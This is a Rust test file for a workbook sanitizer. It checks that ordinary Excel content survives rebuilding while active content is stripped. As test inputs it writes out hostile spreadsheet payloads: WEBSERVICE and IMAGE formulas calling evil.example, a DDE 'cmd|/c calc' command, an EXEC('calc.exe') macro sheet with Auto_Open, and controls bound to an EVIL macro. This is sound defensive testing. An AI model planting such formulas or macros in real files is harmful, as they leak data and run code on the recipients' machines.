//! Excel workbooks: cells, formulas and forms come back.

use sanitizer_intermediate::{ChangedKind, RemovedKind};

use super::package::{Package, SPACES, everything, part, parts, raw_part};
use crate::desk::{Desk, changed, contains, removed};
use crate::pictures::{colours, gradient, png};

pub(crate) const MAIN: &str = "xl/workbook.xml";
pub(crate) const SHEET: &str = "xl/worksheets/sheet1.xml";
pub(crate) const MEDIA: &str =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
pub(crate) const S: &str = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";

/// A workbook of one sheet with this content; `names` stand in the workbook.
pub(crate) fn workbook(sheet: &str, names: &str) -> Package {
    Package::new(MAIN, MEDIA)
        .with(MAIN, format!(
            "<workbook {S} {SPACES}><sheets><sheet name=\"様式１\" sheetId=\"7\" r:id=\"worksheet1\"/></sheets>{names}</workbook>"
        ))
        .related(MAIN, "worksheet", SHEET)
        .with(SHEET, format!("<worksheet {S} {SPACES}>{sheet}</worksheet>"))
}

/// The sheet of what a workbook becomes.
#[track_caller]
pub(crate) fn sheet(package: &Package) -> String {
    let rebuilt = Desk::new().sends("表.xlsx", &package.bytes()).becomes("表.xlsx").bytes;
    let text = part(&rebuilt, SHEET);
    text[text.find("relationships\">").expect("a root") + 15..]
        .trim_end_matches("</worksheet>")
        .to_owned()
}

pub(crate) fn cells(cells: &str) -> String {
    format!("<sheetData><row r=\"1\">{cells}</row></sheetData>")
}

#[test]
fn cells_keep_value_kind_and_format() {
    let written = cells(
        "<c r=\"A1\" s=\"3\"><v>45000.5</v></c><c r=\"B1\" t=\"b\"><v>1</v></c><c r=\"C1\" t=\"e\"><v>#DIV/0!</v></c>\
         <c r=\"D1\" t=\"str\"><f>\"a\"&amp;1</f><v>a1</v></c><c r=\"E1\" s=\"2\"/><c r=\"AA1\"><v>0.1</v></c>",
    );
    assert_eq!(sheet(&workbook(&written, "")), written);
}

#[test]
fn texts_keep_formats_and_readings() {
    let shared = "<si><t>使わない</t></si><si><r><rPr><b/><sz val=\"11\"/></rPr><t>東京</t></r><rPh sb=\"0\" eb=\"2\"><t>トウキョウ</t></rPh></si>";
    let package = workbook(&cells("<c r=\"A1\" t=\"s\"><v>1</v></c><c r=\"B1\" t=\"inlineStr\"><is><t> 直接 </t></is></c>"), "")
        .related(MAIN, "sharedStrings", "xl/sharedStrings.xml")
        .with("xl/sharedStrings.xml", format!("<sst {S}>{shared}</sst>"));
    let rebuilt = Desk::new().sends("a.xlsx", &package.bytes()).becomes("a.xlsx").bytes;
    let texts = part(&rebuilt, "xl/sharedStrings.xml");
    assert!(texts.contains("<rPr><b/><sz val=\"11\"/></rPr><t>東京</t></r><rPh sb=\"0\" eb=\"2\"><t>トウキョウ</t></rPh>"), "{texts}");
    assert!(texts.contains("<si><t xml:space=\"preserve\"> 直接 </t></si>"), "{texts}");
    assert!(!texts.contains("使わない"), "a text no cell shows does not cross: {texts}");
}

#[test]
fn plain_formulas_stay_formulas() {
    let written = cells(
        "<c r=\"A1\"><f>SUM(B1:C1)*様式１!D1</f><v>6</v></c>\
         <c r=\"B1\"><f t=\"shared\" ref=\"B1:C1\" si=\"0\">A1+1</f><v>1</v></c><c r=\"C1\"><f t=\"shared\" si=\"0\"/><v>2</v></c>\
         <c r=\"D1\"><f t=\"array\" ref=\"D1\">SUM(A1:A3*B1:B3)</f><v>3</v></c>",
    );
    assert_eq!(sheet(&workbook(&written, "")), written);
}

/// NF-32: formulas that reach out keep their last value and nothing else.
#[test]
fn formulas_that_reach_out_become_values() {
    for (formula, kind) in [
        ("WEBSERVICE(\"http://evil.example/\"&amp;A2)", RemovedKind::ActiveFormulas),
        ("_xlfn.IMAGE(\"http://evil.example/\")", RemovedKind::ActiveFormulas),
        ("HYPERLINK(\"http://evil.example/\",\"x\")", RemovedKind::ActiveFormulas),
        ("[1]Sheet1!A1", RemovedKind::ExternalReferences),
        ("'\\\\evil\\[a.xlsx]S'!A1", RemovedKind::ExternalReferences),
        ("cmd|'/c calc'!A1", RemovedKind::Dde),
    ] {
        let package = workbook(&cells(&format!("<c r=\"A1\"><f>{formula}</f><v>42</v></c>")), "");
        let rebuilt = Desk::new().sends("a.xlsx", &package.bytes()).becomes("a.xlsx");
        let text = part(&rebuilt.bytes, SHEET);
        assert!(text.contains("<c r=\"A1\"><v>42</v></c>"), "{formula}: {text}");
        assert_eq!(removed(&rebuilt, kind), 1, "{formula}");
        assert_eq!(changed(&rebuilt, ChangedKind::FormulasToValues), 1, "{formula}");
    }
}

/// NF-32: cells that shared a refused formula keep values too.
#[test]
fn followers_of_a_refused_shared_formula_become_values() {
    let written = cells(
        "<c r=\"A1\"><f t=\"shared\" ref=\"A1:B1\" si=\"0\">RTD(\"x\",\"\",\"y\")</f><v>1</v></c>\
         <c r=\"B1\"><f t=\"shared\" si=\"0\"/><v>2</v></c>",
    );
    let kept = sheet(&workbook(&written, ""));
    assert!(kept.contains("<c r=\"A1\"><v>1</v></c><c r=\"B1\"><v>2</v></c>"), "{kept}");
}

#[test]
fn forms_keep_layout_validations_and_printing() {
    let written = format!(
        "<sheetPr><pageSetUpPr fitToPage=\"1\"/></sheetPr><sheetViews><sheetView showGridLines=\"0\" workbookViewId=\"0\">\
         <pane ySplit=\"3\" topLeftCell=\"A4\" activePane=\"bottomLeft\" state=\"frozen\"/></sheetView></sheetViews>\
         <sheetFormatPr defaultRowHeight=\"13.5\"/><cols><col min=\"1\" max=\"40\" width=\"2.25\" customWidth=\"1\"/></cols>\
         {}<sheetProtection sheet=\"1\"/><mergeCells count=\"1\"><mergeCell ref=\"A1:H2\"/></mergeCells>\
         <conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" dxfId=\"0\" priority=\"1\"><formula>$A$1=\"\"</formula></cfRule></conditionalFormatting>\
         <dataValidations count=\"1\"><dataValidation type=\"list\" allowBlank=\"1\" sqref=\"B2\"><formula1>\"はい,いいえ\"</formula1></dataValidation></dataValidations>\
         <printOptions horizontalCentered=\"1\"/><pageMargins left=\"0.7\" right=\"0.7\" top=\"0.75\" bottom=\"0.75\" header=\"0.3\" footer=\"0.3\"/>\
         <pageSetup paperSize=\"9\" orientation=\"landscape\"/><headerFooter><oddFooter>&amp;P/&amp;N</oddFooter></headerFooter>",
        cells("<c r=\"A1\"/>")
    );
    assert_eq!(sheet(&workbook(&written, "")), written);
}

#[test]
fn names_stay_when_they_stand_for_cells() {
    let names = "<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">様式１!$A$1:$B$2</definedName>\
        <definedName name=\"区分\">様式１!$A$1:$A$3</definedName><definedName name=\"外\">[1]S!$A$1</definedName>\
        <definedName name=\"Auto_Open\" function=\"1\">様式１!$A$1</definedName></definedNames>";
    let package = workbook(&cells(""), names);
    let rebuilt = Desk::new().sends("a.xlsx", &package.bytes()).becomes("a.xlsx");
    let text = part(&rebuilt.bytes, MAIN);
    assert!(
        text.contains("<definedName name=\"区分\">様式１!$A$1:$A$3</definedName></definedNames>"),
        "{text}"
    );
    assert!(text.contains("_xlnm.Print_Area"), "{text}");
    assert!(!text.contains("Auto_Open") && !text.contains("[1]"), "{text}");
    assert_eq!(removed(&rebuilt, RemovedKind::MacroCalls), 1);
    assert_eq!(removed(&rebuilt, RemovedKind::ExternalReferences), 1);
}

#[test]
fn pictures_and_notes_come_back() {
    let drawing = format!(
        "<xdr:wsDr {SPACES}><xdr:twoCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>\
         <xdr:to><xdr:col>2</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>4</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>\
         <xdr:pic><xdr:nvPicPr><xdr:cNvPr id=\"2\" name=\"図\"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:embed=\"image1\"/></xdr:blipFill>\
         <xdr:spPr/></xdr:pic><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
    );
    let package = workbook(&format!("{}<drawing r:id=\"drawing1\"/>", cells("<c r=\"A1\"><v>1</v></c>")), "")
        .related(SHEET, "drawing", "xl/drawings/drawing1.xml")
        .with("xl/drawings/drawing1.xml", drawing)
        .related("xl/drawings/drawing1.xml", "image", "xl/media/image1.png")
        .with("xl/media/image1.png", png(&gradient(3), 16, 16))
        .related(SHEET, "comments", "xl/comments1.xml")
        .with("xl/comments1.xml", format!("<comments {S}><authors><author>山田</author></authors><commentList><comment ref=\"B3\" authorId=\"0\"><text><t>記入例</t></text></comment></commentList></comments>"));
    let rebuilt = Desk::new().sends("a.xlsx", &package.bytes()).becomes("a.xlsx").bytes;
    assert_eq!(colours(&raw_part(&rebuilt, "xl/media/image1.png")), gradient(3));
    let notes = part(&rebuilt, "xl/comments1.xml");
    assert!(notes.contains("<comment ref=\"B3\" authorId=\"0\"><text><t>記入例</t>"), "{notes}");
    assert!(!notes.contains("山田"), "{notes}");
    assert!(
        part(&rebuilt, "xl/drawings/vmlDrawing1.vml")
            .contains("<x:Row>2</x:Row><x:Column>1</x:Column>")
    );
}

/// NF-32: of a macro sheet the last values stay and nothing that runs.
#[test]
fn macro_sheets_keep_their_values_alone() {
    let package = Package::new(MAIN, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
        .with(MAIN, format!(
            "<workbook {S} {SPACES}><bookViews><workbookView activeTab=\"2\"/></bookViews><sheets>\
             <sheet name=\"Dialog1\" sheetId=\"3\" r:id=\"dialogsheet1\"/>\
             <sheet name=\"Macro1\" sheetId=\"1\" r:id=\"xlMacrosheet2\"/><sheet name=\"表\" sheetId=\"2\" r:id=\"worksheet3\"/></sheets>\
             <definedNames><definedName name=\"範囲\" localSheetId=\"2\">表!$A$1</definedName>\
             <definedName name=\"Auto_Open\">Macro1!$A$1</definedName></definedNames></workbook>"
        ))
        .related(MAIN, "dialogsheet", "xl/dialogsheets/sheet1.xml")
        .typed("xl/dialogsheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml")
        .with("xl/dialogsheets/sheet1.xml", "<x/>")
        .related(MAIN, "xlMacrosheet", "xl/macrosheets/sheet1.xml")
        .typed("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")
        .with("xl/macrosheets/sheet1.xml", format!(
            "<xm:macrosheet {S} xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\">{}</xm:macrosheet>",
            cells("<c r=\"A1\"><f>EXEC(\"calc.exe\")</f><v>33</v></c>")
        ))
        .related(MAIN, "worksheet", SHEET)
        .with(SHEET, format!("<worksheet {S}>{}</worksheet>", cells("<c r=\"A1\"><f>Macro1!A1</f><v>5</v></c>")));
    let rebuilt = Desk::new().sends("a.xlsm", &package.bytes()).becomes("a.xlsx");
    let book = part(&rebuilt.bytes, MAIN);
    assert!(book.contains("activeTab=\"1\""), "{book}");
    assert!(book.contains("localSheetId=\"1\"") && !book.contains("Auto_Open"), "{book}");
    assert!(!parts(&rebuilt.bytes).iter().any(|it| it.contains("macro") || it.contains("dialog")));
    let everything = everything(&rebuilt.bytes);
    assert!(!contains(&everything, b"EXEC") && contains(&everything, b"<v>33</v>"));
    assert!(contains(&everything, b"<c r=\"A1\"><v>5</v></c>"));
    assert_eq!(removed(&rebuilt, RemovedKind::MacroSheets), 2);
}

/// NF-32: of the controls of a form caption and tick stay, as text where they stood.
#[test]
fn controls_of_forms_leave_their_caption_and_tick() {
    let shape = |kind: &str, caption: &str, state: &str| {
        format!(
            "<v:shape id=\"s\" style=\"position:absolute\"><v:textbox><div style=\"text-align:left\"><font face=\"A\" size=\"180\">{caption}</font></div></v:textbox>\
             <x:ClientData ObjectType=\"{kind}\"><x:FmlaMacro>[0]!EVIL</x:FmlaMacro><x:Anchor>\n 1, 15, 2, 4, 3, 0, 3, 2</x:Anchor>{state}</x:ClientData></v:shape>"
        )
    };
    let shapes = [
        shape("Checkbox", "同意する", "<x:Checked>1</x:Checked>"),
        shape("Checkbox", "郵送", ""),
        shape("Radio", "男", "<x:Checked>1</x:Checked>"),
        shape("Button", "", ""),
        shape("Note", "メモ", ""),
    ]
    .concat();
    let control = "<mc:AlternateContent><mc:Choice Requires=\"x14\"><controls><mc:AlternateContent><mc:Choice Requires=\"x14\">\
        <control shapeId=\"1\" r:id=\"ctrlProp2\" name=\"c\"><controlPr macro=\"[0]!EVIL\"/></control></mc:Choice></mc:AlternateContent></controls></mc:Choice></mc:AlternateContent>";
    let file = workbook(&format!("<sheetData/><legacyDrawing r:id=\"vmlDrawing1\"/>{control}"), "")
        .related(SHEET, "vmlDrawing", "xl/drawings/vmlDrawing1.vml")
        .with(
            "xl/drawings/vmlDrawing1.vml",
            format!(
                "<xml {SPACES} xmlns:x=\"urn:schemas-microsoft-com:office:excel\">{shapes}</xml>"
            ),
        )
        .related(SHEET, "ctrlProp", "xl/ctrlProps/ctrlProp1.xml")
        .with("xl/ctrlProps/ctrlProp1.xml", "<formControlPr macro=\"EVIL\"/>");
    let rebuilt = Desk::new().sends("a.xlsx", &file.bytes()).becomes("a.xlsx");
    let drawing = part(&rebuilt.bytes, "xl/drawings/drawing1.xml");
    for text in ["<a:t>☑ 同意する</a:t>", "<a:t>☐ 郵送</a:t>", "<a:t>◉ 男</a:t>"] {
        assert!(drawing.contains(text), "{text}\n{drawing}");
    }
    assert!(
        drawing.contains("<xdr:col>1</xdr:col><xdr:colOff>142875</xdr:colOff><xdr:row>2</xdr:row>"),
        "{drawing}"
    );
    assert_eq!(drawing.matches("<xdr:sp>").count(), 3, "{drawing}");
    assert!(!contains(&everything(&rebuilt.bytes), b"EVIL"));
    assert_eq!(changed(&rebuilt, ChangedKind::ControlsAsText), 3);
    assert_eq!(removed(&rebuilt, RemovedKind::ActiveX), 1);
}

/// A drawing of controls that is no XML is no reason to hold the workbook.
#[test]
fn drawings_of_controls_may_be_damaged() {
    let file = workbook("<sheetData/><legacyDrawing r:id=\"vmlDrawing1\"/>", "")
        .related(SHEET, "vmlDrawing", "xl/drawings/vmlDrawing1.vml")
        .with("xl/drawings/vmlDrawing1.vml", "<xml><v:shape><br></xml>");
    let rebuilt = Desk::new().sends("a.xlsx", &file.bytes()).becomes("a.xlsx");
    assert_eq!(changed(&rebuilt, ChangedKind::ControlsAsText), 0);
}
